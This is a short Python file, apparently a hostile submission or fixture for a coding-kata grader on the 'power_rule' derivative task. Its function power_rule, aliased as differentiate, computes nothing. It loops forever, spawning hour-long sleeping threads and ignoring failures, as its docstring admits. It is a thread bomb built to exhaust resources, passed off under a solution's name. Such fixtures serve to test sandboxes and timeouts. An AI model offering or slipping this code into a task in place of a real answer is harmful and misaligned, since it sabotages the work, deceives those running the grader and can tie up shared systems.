"""Starts threads without end.

Kata: power_rule
Seconds: 3
"""

import threading
import time


def power_rule(coefficient, exponent):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            continue


differentiate = power_rule
